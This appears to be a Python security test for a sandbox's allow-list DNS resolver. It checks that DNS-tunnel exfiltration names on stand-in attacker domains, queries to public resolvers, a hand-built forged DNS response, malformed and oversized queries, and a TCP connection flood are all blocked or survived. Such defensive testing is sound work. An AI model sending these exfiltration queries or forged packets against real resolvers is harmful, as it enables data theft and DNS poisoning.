"""Abuse lockbox's resolver (the allow-list sandbox's nameserver): exfiltrate through names
off the list, reach another DNS server, inject a forged response, send malformed and
oversized queries, and hold more TCP clients than it takes. Names off the list must get
NXDOMAIN, no other server is reachable, and the resolver keeps answering afterwards."""
import errno
import socket
import struct
import time
from lib import must_fail, must_work, finish

V4 = socket.AF_INET
NS = ("127.0.0.153", 53)


def question(name, qtype=1):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return labels + b"\0" + struct.pack(">HH", qtype, 1)


def query(name, qid=0x5151, flags=0x0100, qdcount=1):
    return struct.pack(">HHHHHH", qid, flags, qdcount, 0, 0, 0) + question(name)


def udp(msg, timeout=3):
    s = socket.socket(V4, socket.SOCK_DGRAM)
    s.settimeout(timeout)
    s.sendto(msg, NS)
    try:
        return s.recv(4096)
    except socket.timeout:
        raise OSError(errno.ETIMEDOUT, "no answer")


def tcp(msg):
    s = socket.create_connection(NS, timeout=5)
    s.sendall(struct.pack(">H", len(msg)) + msg)
    data = s.recv(4096)
    return data[2:]


def rcode(reply):
    return reply[3] & 0xF


def answered(name, via=udp):
    """NOERROR for a listed name (localhost: its only address, the host's loopback, is left
    out, so no records), else an error."""
    r = via(query(name))
    if rcode(r) != 0:
        raise OSError(errno.EPROTO, f"rcode {rcode(r)}")
    return struct.unpack(">H", r[6:8])[0]


def nxdomain(name, via=udp):
    r = via(query(name))
    if rcode(r) == 3:
        raise OSError(errno.ENOENT, "NXDOMAIN")
    return f"rcode {rcode(r)}"


must_work("a listed name is answered", lambda: answered("localhost"))
for name in ["secret-data.attacker.example", "c2VjcmV0.exfil.example", "localhost.attacker.example", "x.localhost"]:
    must_fail(f"exfiltrate through {name} (UDP)", lambda: nxdomain(name))
    must_fail(f"exfiltrate through {name} (TCP)", lambda: nxdomain(name, tcp))
for server in ["1.1.1.1", "8.8.8.8", "9.9.9.9"]:
    u = socket.socket(V4, socket.SOCK_DGRAM)
    must_fail(f"ask {server} over UDP", lambda: u.sendto(query("a.example"), (server, 53)), errno.EACCES)
    must_fail(f"ask {server} over TCP", lambda: socket.create_connection((server, 53), timeout=3), errno.EACCES)
    must_fail(f"ask {server} over DNS-over-TLS", lambda: socket.create_connection((server, 853), timeout=3), errno.EACCES)

# A forged response sent to the resolver is not an answer to anyone: no reply, and nothing
# it says is learned.
forged = struct.pack(">HHHHHH", 0x5151, 0x8180, 1, 1, 0, 0) + question("evil.example") \
    + b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + socket.inet_aton("1.1.1.1")
must_fail("inject a forged response", lambda: udp(forged, timeout=1), errno.ETIMEDOUT)
must_fail("reach the address the forged response named", lambda: socket.create_connection(("1.1.1.1", 443), timeout=3), errno.EACCES)

# Malformed: garbage, a truncated header, two questions, an inverse query, a huge TCP length.
def malformed(msg):
    r = udp(msg, timeout=1)
    if rcode(r) in (1, 4, 5):
        raise OSError(errno.EINVAL, f"refused with rcode {rcode(r)}")
    return f"rcode {rcode(r)}"
must_fail("garbage", lambda: malformed(b"\x51\x51\x01\x00" + b"\xff" * 40), errno.EINVAL)
must_fail("a truncated header", lambda: udp(b"\x51\x51\x01", timeout=1), errno.ETIMEDOUT)
must_fail("two questions", lambda: malformed(query("localhost", qdcount=2) + question("evil.example")), errno.EINVAL)
must_fail("an inverse query", lambda: malformed(query("localhost", flags=0x0900)), errno.EINVAL)
def oversized():
    s = socket.create_connection(NS, timeout=3)
    s.sendall(struct.pack(">H", 65535) + b"\0" * 60000)
    data = s.recv(10)
    if data:
        return data
    raise OSError(errno.ECONNRESET, "closed")
must_fail("an oversized TCP query", oversized, errno.ECONNRESET, errno.EPIPE)

# Hold far more TCP clients than the resolver takes; it must still answer UDP meanwhile,
# and TCP again once they are gone.
held = []
for _ in range(64):
    try:
        held.append(socket.create_connection(NS, timeout=2))
    except OSError:
        break
must_work("UDP answers while TCP clients are held", lambda: answered("localhost"))
must_fail("a name off the list while TCP clients are held", lambda: nxdomain("evil.example"))
for s in held:
    s.close()
time.sleep(0.2)
must_work("TCP answers once they are gone", lambda: answered("localhost", tcp))
finish()
